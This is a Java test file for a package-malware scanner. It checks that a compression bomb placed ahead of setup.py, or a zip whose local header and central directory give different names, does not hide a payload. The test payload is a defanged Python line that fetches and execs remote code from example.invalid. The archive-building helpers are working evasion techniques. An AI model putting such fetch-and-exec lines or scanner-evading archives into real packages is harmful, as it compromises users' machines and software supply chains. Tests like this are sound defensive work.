package dev.kingsnake.rules.pkg;

import dev.kingsnake.Finding;
import dev.kingsnake.ScanResult;
import dev.kingsnake.Scanner;
import dev.kingsnake.Verdict;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Archives built to hide a payload from a scanner while an installer still runs it: a limit reached early must
 * not hide what follows, and an archive that reads differently per tool is evidence in itself. Payloads are
 * defanged (example.invalid, never run).
 */
class HiddenPayloadArchivesTest {
    private static final Scanner SCANNER = Scanner.builder().build();
    private static final String PAYLOAD = "import urllib.request\n"
            + "exec(urllib.request.urlopen('https://example.invalid/stage2').read())\n";

    @Test
    void aCompressionBombBeforeThePayloadDoesNotHideIt() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GZIPOutputStream(out))) {
            tar.setBigNumberMode(TarArchiveOutputStream.BIGNUMBER_POSIX);
            long size = 64L << 20;
            TarArchiveEntry blob = new TarArchiveEntry("demo-1.0/data/blob.txt");
            blob.setSize(size);
            tar.putArchiveEntry(blob);
            byte[] line = new byte[1 << 20];
            java.util.Arrays.fill(line, (byte) 'A');
            for (long written = 0; written < size; written += line.length) {
                tar.write(line);
            }
            tar.closeArchiveEntry();
            add(tar, "demo-1.0/setup.py", PAYLOAD);
        }
        assertTrue(out.size() < 1 << 20, "highly compressible: " + out.size());
        ScanResult r = SCANNER.scan("demo-1.0.tar.gz", new ByteArrayInputStream(out.toByteArray()));
        assertEquals(Verdict.MALICIOUS, r.verdict(), r.toString());
        assertTrue(r.findings().stream().anyMatch(f -> f.file().equals("demo-1.0/setup.py")), r.toString());
    }

    @Test
    void aZipWhoseLocalHeaderNamesSetupPyIsFlaggedAndTheEntryScannedUnderBothNames() throws IOException {
        byte[] zip = zipWithLocalName("demo-1.0/notes.md", "demo-1.0/setup.py", PAYLOAD);
        ScanResult r = SCANNER.scan("demo-1.0.zip", new ByteArrayInputStream(zip));
        assertTrue(r.findings().stream().anyMatch(f -> f.ruleId().equals("KS-PKG-ARCHIVE-DIFFERENTIAL")), r.toString());
        assertTrue(r.findings().stream().anyMatch(f -> f.file().equals("demo-1.0/setup.py")
                && !f.ruleId().equals("KS-PKG-ARCHIVE-DIFFERENTIAL")), "the payload under the local name: " + r);
        assertEquals(Verdict.MALICIOUS, r.verdict(), r.toString());
    }

    @Test
    void theDifferentialAloneIsAtLeastSuspicious() throws IOException {
        byte[] zip = zipWithLocalName("demo-1.0/notes.md", "demo-1.0/setup.py", "x = 1\n");
        ScanResult r = SCANNER.scan("demo-1.0.zip", new ByteArrayInputStream(zip));
        Finding d = r.findings().stream().filter(f -> f.ruleId().equals("KS-PKG-ARCHIVE-DIFFERENTIAL")).findFirst()
                .orElseThrow(() -> new AssertionError(r.toString()));
        assertTrue(d.message().contains("demo-1.0/setup.py"), d.message());
        assertNotEquals(Verdict.BENIGN, r.verdict(), r.toString());
    }

    @Test
    void anHonestZipHasNoDifferential() throws IOException {
        byte[] zip = zipWithLocalName("demo-1.0/setup.py", "demo-1.0/setup.py", "x = 1\n");
        ScanResult r = SCANNER.scan("demo-1.0.zip", new ByteArrayInputStream(zip));
        assertTrue(r.findings().stream().noneMatch(f -> f.ruleId().equals("KS-PKG-ARCHIVE-DIFFERENTIAL")), r.toString());
    }

    /** A zip whose central directory names the entry {@code central} and whose local header names it {@code local}. */
    private static byte[] zipWithLocalName(String central, String local, String content) throws IOException {
        assertEquals(central.length(), local.length(), "patched in place");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(local));
            zip.write(content.getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        }
        byte[] bytes = out.toByteArray();
        byte[] name = local.getBytes(StandardCharsets.UTF_8);
        int first = indexOf(bytes, name, 0);
        int second = indexOf(bytes, name, first + 1);
        System.arraycopy(central.getBytes(StandardCharsets.UTF_8), 0, bytes, second, name.length);
        return bytes;
    }

    private static int indexOf(byte[] hay, byte[] needle, int from) {
        outer:
        for (int i = from; i + needle.length <= hay.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (hay[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new AssertionError("not found");
    }

    private static void add(TarArchiveOutputStream tar, String name, String text) throws IOException {
        byte[] b = text.getBytes(StandardCharsets.UTF_8);
        TarArchiveEntry e = new TarArchiveEntry(name);
        e.setSize(b.length);
        tar.putArchiveEntry(e);
        tar.write(b);
        tar.closeArchiveEntry();
    }
}
